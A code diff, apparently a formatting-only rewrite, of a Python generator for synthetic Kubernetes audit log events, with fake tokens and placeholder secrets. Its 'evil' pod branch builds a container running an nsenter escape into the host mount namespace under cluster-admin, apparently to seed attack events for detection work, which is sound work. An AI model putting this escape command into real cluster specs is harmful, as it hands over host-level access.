-             "metadata": {"name": w["name"], "namespace": w["ns"], "uid": c.uuid(), "resourceVersion": "@@RV@@",
-                          "creationTimestamp": "2026-01-20T09:12:44Z"},
-             "spec": {"replicas": n}, "status": {"replicas": max(1, n - 1),
-                                                  "selector": f"app.kubernetes.io/name={w['name']}"}}
-    ev = {"level": "Request", "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}/scale",
-          "verb": "update", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("deployments", w["ns"], w["name"], "apps", subresource="scale"),
-          "responseStatus": ok(), "requestObject": scale, "annotations": annotations(user, "system:controller:horizontal-pod-autoscaler")}
+    scale = {
+        "kind": "Scale",
+        "apiVersion": "autoscaling/v1",
+        "metadata": {
+            "name": w["name"],
+            "namespace": w["ns"],
+            "uid": c.uuid(),
+            "resourceVersion": "@@RV@@",
+            "creationTimestamp": "2026-01-20T09:12:44Z",
+        },
+        "spec": {"replicas": n},
+        "status": {"replicas": max(1, n - 1), "selector": f"app.kubernetes.io/name={w['name']}"},
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}/scale",
+        "verb": "update",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps", subresource="scale"),
+        "responseStatus": ok(),
+        "requestObject": scale,
+        "annotations": annotations(user, "system:controller:horizontal-pod-autoscaler"),
+    }
     return ev, (2000, 15000)
 
 
@@ -508,29 +759,58 @@ def t_delete(c: Cluster):
     r = c.rng
     w = r.choice(c.workloads)
     pod = r.choice(w["pods"])
-    user, src, ua = c.controller(r.choice(["replicaset-controller", "generic-garbage-collector", "job-controller"])) \
-        if r.random() < 0.8 else c.admin()
+    user, src, ua = (
+        c.controller(r.choice(["replicaset-controller", "generic-garbage-collector", "job-controller"]))
+        if r.random() < 0.8
+        else c.admin()
+    )
     opts = {"kind": "DeleteOptions", "apiVersion": "v1"}
     if r.random() < 0.5:
         opts["propagationPolicy"] = r.choice(["Background", "Foreground"])
     if r.random() < 0.5:
         opts["gracePeriodSeconds"] = r.choice([0, 30])
         opts["preconditions"] = {"uid": pod["uid"]}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}-@@SFX@@",
-          "verb": "delete", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("pods", w["ns"], f"{pod['name']}-@@SFX@@"),
-          "responseStatus": ok(), "requestObject": opts, "annotations": annotations(user, "system:controller:replicaset-controller")}
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}-@@SFX@@",
+        "verb": "delete",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("pods", w["ns"], f"{pod['name']}-@@SFX@@"),
+        "responseStatus": ok(),
+        "requestObject": opts,
+        "annotations": annotations(user, "system:controller:replicaset-controller"),
+    }
     return ev, (3000, 25000)
 
 
 def fake_jwt(c: Cluster, sub: str) -> str:
     import base64
+
     hdr = base64.urlsafe_b64encode(json.dumps({"alg": "RS256", "kid": c.name(43)}).encode()).decode().rstrip("=")
-    body = base64.urlsafe_b64encode(json.dumps(
-        {"aud": ["https://kubernetes.default.svc.cluster.local"], "exp": 1773600000, "iat": 1773480000,
-         "iss": "https://kubernetes.default.svc.cluster.local", "jti": c.uuid(),
-         "kubernetes.io": {"namespace": sub.split(":")[2], "serviceaccount": {"name": sub.split(":")[3], "uid": c.uuid()},
-                           "node": {"name": c.rng.choice(c.workers), "uid": c.uuid()}}, "nbf": 1773480000, "sub": sub}).encode()).decode().rstrip("=")
+    body = (
+        base64.urlsafe_b64encode(
+            json.dumps(
+                {
+                    "aud": ["https://kubernetes.default.svc.cluster.local"],
+                    "exp": 1773600000,
+                    "iat": 1773480000,
+                    "iss": "https://kubernetes.default.svc.cluster.local",
+                    "jti": c.uuid(),
+                    "kubernetes.io": {
+                        "namespace": sub.split(":")[2],
+                        "serviceaccount": {"name": sub.split(":")[3], "uid": c.uuid()},
+                        "node": {"name": c.rng.choice(c.workers), "uid": c.uuid()},
+                    },
+                    "nbf": 1773480000,
+                    "sub": sub,
+                }
+            ).encode()
+        )
+        .decode()
+        .rstrip("=")
+    )
     return f"{hdr}.{body}.{c.name(342)}"
 
 
@@ -539,13 +819,28 @@ def t_tokenreview(c: Cluster):
     reviewer = r.choice(c.workloads[:4])
     user, src, ua = c.pod_sa(reviewer)
     client = r.choice(c.workloads)
-    tr = {"kind": "TokenReview", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
-          "spec": {"token": fake_jwt(c, f"system:serviceaccount:{client['ns']}:{client['sa']}"),
-                   "audiences": ["https://kubernetes.default.svc.cluster.local"]}, "status": {"user": {}}}
-    ev = {"level": "Request", "requestURI": "/apis/authentication.k8s.io/v1/tokenreviews", "verb": "create",
-          "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("tokenreviews", api_group="authentication.k8s.io"),
-          "responseStatus": ok(201), "requestObject": tr, "annotations": annotations(user, "system:auth-delegator")}
+    tr = {
+        "kind": "TokenReview",
+        "apiVersion": "authentication.k8s.io/v1",
+        "metadata": {"creationTimestamp": None},
+        "spec": {
+            "token": fake_jwt(c, f"system:serviceaccount:{client['ns']}:{client['sa']}"),
+            "audiences": ["https://kubernetes.default.svc.cluster.local"],
+        },
+        "status": {"user": {}},
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": "/apis/authentication.k8s.io/v1/tokenreviews",
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("tokenreviews", api_group="authentication.k8s.io"),
+        "responseStatus": ok(201),
+        "requestObject": tr,
+        "annotations": annotations(user, "system:auth-delegator"),
+    }
     return ev, (500, 5000)
 
 
@@ -554,17 +849,36 @@ def t_sar(c: Cluster):
     reviewer = r.choice(c.workloads[:4])
     user, src, ua = c.pod_sa(reviewer)
     subj = r.choice(c.workloads)
-    sar = {"kind": "SubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
-           "spec": {"resourceAttributes": {"namespace": subj["ns"], "verb": r.choice(["get", "list"]),
-                                           "version": "v1", "resource": r.choice(["services", "endpoints", "pods"]),
-                                           "subresource": "metrics"},
-                    "user": f"system:serviceaccount:{subj['ns']}:{subj['sa']}",
-                    "groups": ["system:serviceaccounts", f"system:serviceaccounts:{subj['ns']}", "system:authenticated"],
-                    "uid": c.uuid()}, "status": {"allowed": False}}
-    ev = {"level": "Request", "requestURI": "/apis/authorization.k8s.io/v1/subjectaccessreviews", "verb": "create",
-          "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("subjectaccessreviews", api_group="authorization.k8s.io"),
-          "responseStatus": ok(201), "requestObject": sar, "annotations": annotations(user, "system:auth-delegator")}
+    sar = {
+        "kind": "SubjectAccessReview",
+        "apiVersion": "authorization.k8s.io/v1",
+        "metadata": {"creationTimestamp": None},
+        "spec": {
+            "resourceAttributes": {
+                "namespace": subj["ns"],
+                "verb": r.choice(["get", "list"]),
+                "version": "v1",
+                "resource": r.choice(["services", "endpoints", "pods"]),
+                "subresource": "metrics",
+            },
+            "user": f"system:serviceaccount:{subj['ns']}:{subj['sa']}",
+            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{subj['ns']}", "system:authenticated"],
+            "uid": c.uuid(),
+        },
+        "status": {"allowed": False},
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": "/apis/authorization.k8s.io/v1/subjectaccessreviews",
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("subjectaccessreviews", api_group="authorization.k8s.io"),
+        "responseStatus": ok(201),
+        "requestObject": sar,
+        "annotations": annotations(user, "system:auth-delegator"),
+    }
     return ev, (400, 4000)
 
 
@@ -573,15 +887,29 @@ def t_token_request(c: Cluster):
     w = r.choice(c.workloads)
     pod = r.choice(w["pods"])
     user, src, ua = c.kubelet(pod["node"])
-    treq = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
-            "spec": {"audiences": ["https://kubernetes.default.svc.cluster.local"], "expirationSeconds": 3607,
-                     "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": pod["name"], "uid": pod["uid"]}},
-            "status": {"token": "", "expirationTimestamp": None}}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/serviceaccounts/{w['sa']}/token",
-          "verb": "create", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("serviceaccounts", w["ns"], w["sa"], subresource="token"),
-          "responseStatus": ok(201), "requestObject": treq,
-          "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
+    treq = {
+        "kind": "TokenRequest",
+        "apiVersion": "authentication.k8s.io/v1",
+        "metadata": {"creationTimestamp": None},
+        "spec": {
+            "audiences": ["https://kubernetes.default.svc.cluster.local"],
+            "expirationSeconds": 3607,
+            "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": pod["name"], "uid": pod["uid"]},
+        },
+        "status": {"token": "", "expirationTimestamp": None},
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/serviceaccounts/{w['sa']}/token",
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("serviceaccounts", w["ns"], w["sa"], subresource="token"),
+        "responseStatus": ok(201),
+        "requestObject": treq,
+        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
+    }
     return ev, (1000, 8000)
 
 
@@ -590,22 +918,50 @@ def t_event_create(c: Cluster):
     w = r.choice(c.workloads)
     pod = r.choice(w["pods"])
     user, src, ua = c.kubelet(pod["node"])
-    reason, msg = r.choice([("Pulled", f'Container image "{w["image"]}" already present on machine'),
-                            ("Started", f"Started container {w['name']}"),
-                            ("BackOff", "Back-off restarting failed container"),
-                            ("Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503")])
-    evt = {"kind": "Event", "apiVersion": "v1",
-           "metadata": {"name": f"{pod['name']}.@@SFX@@", "namespace": w["ns"], "creationTimestamp": None},
-           "involvedObject": {"kind": "Pod", "namespace": w["ns"], "name": pod["name"], "uid": pod["uid"],
-                              "apiVersion": "v1", "resourceVersion": "@@RV@@", "fieldPath": f"spec.containers{{{w['name']}}}"},
-           "reason": reason, "message": msg, "source": {"component": "kubelet", "host": pod["node"]},
-           "firstTimestamp": "@@RTS@@", "lastTimestamp": "@@RTS@@", "count": 1,
-           "type": "Warning" if reason in ("BackOff", "Unhealthy") else "Normal",
-           "eventTime": None, "reportingComponent": "kubelet", "reportingInstance": pod["node"]}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/events", "verb": "create",
-          "user": user, "sourceIPs": src, "userAgent": ua, "objectRef": object_ref("events", w["ns"], f"{pod['name']}.@@SFX@@"),
-          "responseStatus": ok(201), "requestObject": evt,
-          "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
+    reason, msg = r.choice(
+        [
+            ("Pulled", f'Container image "{w["image"]}" already present on machine'),
+            ("Started", f"Started container {w['name']}"),
+            ("BackOff", "Back-off restarting failed container"),
+            ("Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"),
+        ]
+    )
+    evt = {
+        "kind": "Event",
+        "apiVersion": "v1",
+        "metadata": {"name": f"{pod['name']}.@@SFX@@", "namespace": w["ns"], "creationTimestamp": None},
+        "involvedObject": {
+            "kind": "Pod",
+            "namespace": w["ns"],
+            "name": pod["name"],
+            "uid": pod["uid"],
+            "apiVersion": "v1",
+            "resourceVersion": "@@RV@@",
+            "fieldPath": f"spec.containers{{{w['name']}}}",
+        },
+        "reason": reason,
+        "message": msg,
+        "source": {"component": "kubelet", "host": pod["node"]},
+        "firstTimestamp": "@@RTS@@",
+        "lastTimestamp": "@@RTS@@",
+        "count": 1,
+        "type": "Warning" if reason in ("BackOff", "Unhealthy") else "Normal",
+        "eventTime": None,
+        "reportingComponent": "kubelet",
+        "reportingInstance": pod["node"],
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/events",
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("events", w["ns"], f"{pod['name']}.@@SFX@@"),
+        "responseStatus": ok(201),
+        "requestObject": evt,
+        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
+    }
     return ev, (800, 6000)
 
 
@@ -614,15 +970,35 @@ def t_configmap_update(c: Cluster):
     w = r.choice(c.workloads)
     user, src, ua = c.pod_sa(w) if r.random() < 0.6 else c.admin()
     name = f"{w['name']}-config"
-    cm = {"kind": "ConfigMap", "apiVersion": "v1",
-          "metadata": {"name": name, "namespace": w["ns"], "uid": c.uuid(), "resourceVersion": "@@RV@@",
-                       "creationTimestamp": "2026-02-11T16:40:02Z", "labels": {"app.kubernetes.io/name": w["name"]}},
-          "data": {"LOG_LEVEL": r.choice(["info", "debug"]), "FEATURE_FLAGS": "a,b,c",
-                   "config.yaml": f"server:\n  port: 8080\nupstream: http://{r.choice(c.workloads)['name']}.svc:80\n"}}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/configmaps/{name}",
-          "verb": "update", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("configmaps", w["ns"], name),
-          "responseStatus": ok(), "requestObject": cm, "annotations": annotations(user, f"{w['name']}-config-writer")}
+    cm = {
+        "kind": "ConfigMap",
+        "apiVersion": "v1",
+        "metadata": {
+            "name": name,
+            "namespace": w["ns"],
+            "uid": c.uuid(),
+            "resourceVersion": "@@RV@@",
+            "creationTimestamp": "2026-02-11T16:40:02Z",
+            "labels": {"app.kubernetes.io/name": w["name"]},
+        },
+        "data": {
+            "LOG_LEVEL": r.choice(["info", "debug"]),
+            "FEATURE_FLAGS": "a,b,c",
+            "config.yaml": f"server:\n  port: 8080\nupstream: http://{r.choice(c.workloads)['name']}.svc:80\n",
+        },
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/configmaps/{name}",
+        "verb": "update",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("configmaps", w["ns"], name),
+        "responseStatus": ok(),
+        "requestObject": cm,
+        "annotations": annotations(user, f"{w['name']}-config-writer"),
+    }
     return ev, (1500, 9000)
 
 
@@ -630,54 +1006,126 @@ def t_secret(c: Cluster):
     r = c.rng
     w = r.choice(c.workloads)
     import base64
+
     if r.random() < 0.35:  # get at Request level: no body (the API server never logs a response here)
         user, src, ua = c.pod_sa(w) if r.random() < 0.6 else c.admin()
         name = f"{w['name']}-{r.choice(['db-credentials', 'api-key', 'tls'])}"
-        ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets/{name}", "verb": "get",
-              "user": user, "sourceIPs": src, "userAgent": ua, "objectRef": object_ref("secrets", w["ns"], name),
-              "responseStatus": ok(), "annotations": annotations(user, f"{w['name']}-secret-reader")}
+        ev = {
+            "level": "Request",
+            "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets/{name}",
+            "verb": "get",
+            "user": user,
+            "sourceIPs": src,
+            "userAgent": ua,
+            "objectRef": object_ref("secrets", w["ns"], name),
+            "responseStatus": ok(),
+            "annotations": annotations(user, f"{w['name']}-secret-reader"),
+        }
         return ev, (300, 3000)
     user, src, ua = c.admin() if r.random() < 0.4 else c.pod_sa(c.workloads[6])  # cert-manager
     name = f"{w['name']}-{r.choice(['db-credentials', 'api-key', 'tls', 'registry'])}-@@SFX@@"
     b64 = lambda s: base64.b64encode(s.encode()).decode()
     data = {"username": b64(f"{w['name']}_svc"), "password": b64(c.name(24))}
     if r.random() < 0.3:
-        data = {"tls.crt": b64("-----BEGIN CERTIFICATE-----\n" + c.name(180) + "\n-----END CERTIFICATE-----\n"),
-                "tls.key": b64("-----BEGIN PRIVATE KEY-----\n" + c.name(120) + "\n-----END PRIVATE KEY-----\n")}
-    sec = {"kind": "Secret", "apiVersion": "v1",
-           "metadata": {"name": name, "namespace": w["ns"], "creationTimestamp": None,
-                        "annotations": {"kubectl.kubernetes.io/last-applied-configuration":
-                                        json.dumps({"apiVersion": "v1", "data": data, "kind": "Secret",
-                                                    "metadata": {"name": name, "namespace": w["ns"]}}, separators=(",", ":")) + "\n"}},
-           "data": data, "type": "kubernetes.io/tls" if "tls.crt" in data else "Opaque"}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets?fieldManager=kubectl-client-side-apply",
-          "verb": "create", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("secrets", w["ns"], name), "responseStatus": ok(201), "requestObject": sec,
-          "annotations": annotations(user, "cluster-admin")}
+        data = {
+            "tls.crt": b64("-----BEGIN CERTIFICATE-----\n" + c.name(180) + "\n-----END CERTIFICATE-----\n"),
+            "tls.key": b64("-----BEGIN PRIVATE KEY-----\n" + c.name(120) + "\n-----END PRIVATE KEY-----\n"),
+        }
+    sec = {
+        "kind": "Secret",
+        "apiVersion": "v1",
+        "metadata": {
+            "name": name,
+            "namespace": w["ns"],
+            "creationTimestamp": None,
+            "annotations": {
+                "kubectl.kubernetes.io/last-applied-configuration": json.dumps(
+                    {
+                        "apiVersion": "v1",
+                        "data": data,
+                        "kind": "Secret",
+                        "metadata": {"name": name, "namespace": w["ns"]},
+                    },
+                    separators=(",", ":"),
+                )
+                + "\n"
+            },
+        },
+        "data": data,
+        "type": "kubernetes.io/tls" if "tls.crt" in data else "Opaque",
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/secrets?fieldManager=kubectl-client-side-apply",
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("secrets", w["ns"], name),
+        "responseStatus": ok(201),
+        "requestObject": sec,
+        "annotations": annotations(user, "cluster-admin"),
+    }
     return ev, (2000, 10000)
 
 
 # ---------------------------- RequestResponse level ----------------------------
 def pod_spec(c: Cluster, w: dict, node: str, evil: bool) -> dict:
-    ctr = {"name": w["name"], "image": w["image"],
-           "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
-           "env": [{"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
-                   {"name": "LOG_LEVEL", "value": "info"}],
-           "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
-           "volumeMounts": [{"name": "kube-api-access-@@SFX@@", "readOnly": True,
-                             "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}],
-           "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File",
-           "imagePullPolicy": "IfNotPresent",
-           "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True}}
-    vols = [{"name": "kube-api-access-@@SFX@@", "projected": {"sources": [
-        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
-        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
-        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}],
-        "defaultMode": 420}}]
-    spec = {"volumes": vols, "containers": [ctr], "restartPolicy": "Always", "terminationGracePeriodSeconds": 30,
-            "dnsPolicy": "ClusterFirst", "serviceAccountName": w["sa"], "serviceAccount": w["sa"],
-            "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}}, "schedulerName": "default-scheduler",
-            "enableServiceLinks": True}
+    ctr = {
+        "name": w["name"],
+        "image": w["image"],
+        "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
+        "env": [
+            {"name": "POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
+            {"name": "LOG_LEVEL", "value": "info"},
+        ],
+        "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
+        "volumeMounts": [
+            {
+                "name": "kube-api-access-@@SFX@@",
+                "readOnly": True,
+                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
+            }
+        ],
+        "terminationMessagePath": "/dev/termination-log",
+        "terminationMessagePolicy": "File",
+        "imagePullPolicy": "IfNotPresent",
+        "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True},
+    }
+    vols = [
+        {
+            "name": "kube-api-access-@@SFX@@",
+            "projected": {
+                "sources": [
+                    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
+                    {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
+                    {
+                        "downwardAPI": {
+                            "items": [
+                                {
+                                    "path": "namespace",
+                                    "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
+                                }
+                            ]
+                        }
+                    },
+                ],
+                "defaultMode": 420,
+            },
+        }
+    ]
+    spec = {
+        "volumes": vols,
+        "containers": [ctr],
+        "restartPolicy": "Always",
+        "terminationGracePeriodSeconds": 30,
+        "dnsPolicy": "ClusterFirst",
+        "serviceAccountName": w["sa"],
+        "serviceAccount": w["sa"],
+        "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
+        "schedulerName": "default-scheduler",
+        "enableServiceLinks": True,
+    }
     if evil:
         ctr["image"] = "docker.io/library/alpine:3.19"
         ctr["command"] = ["nsenter", "--mount=/proc/1/ns/mnt", "--", "/bin/sh", "-c", "sleep infinity"]
@@ -689,20 +1137,50 @@ def pod_spec(c: Cluster, w: dict, node: str, evil: bool) -> dict:
 
 
 def managed_fields(w: dict) -> list:
-    return [{"manager": "kube-controller-manager", "operation": "Update", "apiVersion": "v1", "time": "@@STS@@",
-             "fieldsType": "FieldsV1",
-             "fieldsV1": {"f:metadata": {"f:generateName": {}, "f:labels": {".": {}, "f:app.kubernetes.io/name": {},
-                                                                              "f:pod-template-hash": {}},
-                                         "f:ownerReferences": {".": {}, 'k:{"uid":"@@UID@@"}': {}}},
-                          "f:spec": {"f:containers": {f'k:{{"name":"{w["name"]}"}}': {
-                              ".": {}, "f:env": {".": {}, 'k:{"name":"LOG_LEVEL"}': {".": {}, "f:name": {}, "f:value": {}},
-                                                 'k:{"name":"POD_NAME"}': {".": {}, "f:name": {}, "f:valueFrom": {}}},
-                              "f:image": {}, "f:imagePullPolicy": {},
-                              "f:name": {}, "f:ports": {}, "f:resources": {".": {}, "f:limits": {}, "f:requests": {}},
-                              "f:securityContext": {}, "f:terminationMessagePath": {}, "f:terminationMessagePolicy": {}}},
-                              "f:dnsPolicy": {}, "f:enableServiceLinks": {}, "f:restartPolicy": {}, "f:schedulerName": {},
-                              "f:securityContext": {}, "f:serviceAccount": {}, "f:serviceAccountName": {},
-                              "f:terminationGracePeriodSeconds": {}}}}]
+    return [
+        {
+            "manager": "kube-controller-manager",
+            "operation": "Update",
+            "apiVersion": "v1",
+            "time": "@@STS@@",
+            "fieldsType": "FieldsV1",
+            "fieldsV1": {
+                "f:metadata": {
+                    "f:generateName": {},
+                    "f:labels": {".": {}, "f:app.kubernetes.io/name": {}, "f:pod-template-hash": {}},
+                    "f:ownerReferences": {".": {}, 'k:{"uid":"@@UID@@"}': {}},
+                },
+                "f:spec": {
+                    "f:containers": {
+                        f'k:{{"name":"{w["name"]}"}}': {
+                            ".": {},
+                            "f:env": {
+                                ".": {},
+                                'k:{"name":"LOG_LEVEL"}': {".": {}, "f:name": {}, "f:value": {}},
+                                'k:{"name":"POD_NAME"}': {".": {}, "f:name": {}, "f:valueFrom": {}},
+                            },
+                            "f:image": {},
+                            "f:imagePullPolicy": {},
+                            "f:name": {},
+                            "f:ports": {},
+                            "f:resources": {".": {}, "f:limits": {}, "f:requests": {}},
+                            "f:securityContext": {},
+                            "f:terminationMessagePath": {},
+                            "f:terminationMessagePolicy": {},
+                        }
+                    },
+                    "f:dnsPolicy": {},
+                    "f:enableServiceLinks": {},
+                    "f:restartPolicy": {},
+                    "f:schedulerName": {},
+                    "f:securityContext": {},
+                    "f:serviceAccount": {},
+                    "f:serviceAccountName": {},
+                    "f:terminationGracePeriodSeconds": {},
+                },
+            },
+        }
+    ]
 
 
 def t_pod_create(c: Cluster):
@@ -717,29 +1195,79 @@ def t_pod_create(c: Cluster):
     else:
         user, src, ua = c.controller("replicaset-controller")
         name = f"{w['name']}-{w['rs_hash']}-@@SFX@@"
-        meta_req = {"generateName": f"{w['name']}-{w['rs_hash']}-", "namespace": w["ns"], "creationTimestamp": None,
-                    "labels": {"app.kubernetes.io/name": w["name"], "pod-template-hash": w["rs_hash"]},
-                    "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": f"{w['name']}-{w['rs_hash']}",
-                                         "uid": "@@UID@@", "controller": True, "blockOwnerDeletion": True}]}
+        meta_req = {
+            "generateName": f"{w['name']}-{w['rs_hash']}-",
+            "namespace": w["ns"],
+            "creationTimestamp": None,
+            "labels": {"app.kubernetes.io/name": w["name"], "pod-template-hash": w["rs_hash"]},
+            "ownerReferences": [
+                {
+                    "apiVersion": "apps/v1",
+                    "kind": "ReplicaSet",
+                    "name": f"{w['name']}-{w['rs_hash']}",
+                    "uid": "@@UID@@",
+                    "controller": True,
+                    "blockOwnerDeletion": True,
+                }
+            ],
+        }
     spec = pod_spec(c, w, node, evil)
     req = {"kind": "Pod", "apiVersion": "v1", "metadata": meta_req, "spec": spec, "status": {}}
     meta_resp = dict(meta_req)
-    meta_resp.update({"name": name, "uid": c.uuid(), "resourceVersion": "@@RV@@", "creationTimestamp": "@@RTS@@",
-                      "managedFields": managed_fields(w)})
+    meta_resp.update(
+        {
+            "name": name,
+            "uid": c.uuid(),
+            "resourceVersion": "@@RV@@",
+            "creationTimestamp": "@@RTS@@",
+            "managedFields": managed_fields(w),
+        }
+    )
     # Admission (DefaultTolerationSeconds, Priority) only shows up in the response object.
-    resp_spec = dict(spec, tolerations=[
-        {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300},
-        {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}],
-        priority=0, preemptionPolicy="PreemptLowerPriority")
-    resp = {"kind": "Pod", "apiVersion": "v1", "metadata": meta_resp, "spec": resp_spec,
-            "status": {"phase": "Pending", "qosClass": "Burstable"}}
+    resp_spec = dict(
+        spec,
+        tolerations=[
+            {
+                "key": "node.kubernetes.io/not-ready",
+                "operator": "Exists",
+                "effect": "NoExecute",
+                "tolerationSeconds": 300,
+            },
+            {
+                "key": "node.kubernetes.io/unreachable",
+                "operator": "Exists",
+                "effect": "NoExecute",
+                "tolerationSeconds": 300,
+            },
+        ],
+        priority=0,
+        preemptionPolicy="PreemptLowerPriority",
+    )
+    resp = {
+        "kind": "Pod",
+        "apiVersion": "v1",
+        "metadata": meta_resp,
+        "spec": resp_spec,
+        "status": {"phase": "Pending", "qosClass": "Burstable"},
+    }
     uri = f"/api/v1/namespaces/{w['ns']}/pods" + ("?fieldManager=kubectl-run" if evil else "")
-    ev = {"level": "RequestResponse", "requestURI": uri, "verb": "create", "user": user, "sourceIPs": src,
-          "userAgent": ua, "objectRef": object_ref("pods", w["ns"], name),
-          "responseStatus": ok(201), "requestObject": req, "responseObject": resp,
-          "annotations": annotations(user, "cluster-admin" if evil else "system:controller:replicaset-controller",
-                                     extra={"pod-security.kubernetes.io/enforce-policy": "privileged:latest",
-                                            **latency_ann(r)})}
+    ev = {
+        "level": "RequestResponse",
+        "requestURI": uri,
+        "verb": "create",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("pods", w["ns"], name),
+        "responseStatus": ok(201),
+        "requestObject": req,
+        "responseObject": resp,
+        "annotations": annotations(
+            user,
+            "cluster-admin" if evil else "system:controller:replicaset-controller",
+            extra={"pod-security.kubernetes.io/enforce-policy": "privileged:latest", **latency_ann(r)},
+        ),
+    }
     return ev, (5000, 40000)
 
 
@@ -785,8 +1313,13 @@ def compile_template(s: str):
 
 
 def build_event(body: dict, stage: str) -> dict:
-    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": body["level"], "auditID": "@@AID@@",
-          "stage": stage}
+    ev = {
+        "kind": "Event",
+        "apiVersion": "audit.k8s.io/v1",
+        "level": body["level"],
+        "auditID": "@@AID@@",
+        "stage": stage,
+    }
     for k in ("requestURI", "verb", "user", "impersonatedUser", "sourceIPs", "userAgent", "objectRef"):
         if k in body:
             ev[k] = body[k]
@@ -809,7 +1342,7 @@ def build_templates(rng: random.Random):
         for _ in range(count):
             body, (lo, hi) = fn(c)
             if level == "Request" and "annotations" in body and rng.random() < 0.6:
-                body["annotations"].update(latency_ann(rng))   # slow-request annotations
+                body["annotations"].update(latency_ann(rng))  # slow-request annotations
             full = compile_template(to_line(build_event(body, "ResponseComplete")))
             rr = compile_template(to_line(build_event(body, "RequestReceived")))
             templates.append((full[0], full[1], rr[0], rr[1], lo, hi))
@@ -840,7 +1373,7 @@ def generate(n: int, out: str, seed: int = 42) -> dict:
         m, rem = divmod(us, 60_000_000)
         p = minute_prefix.get(m)
         if p is None:
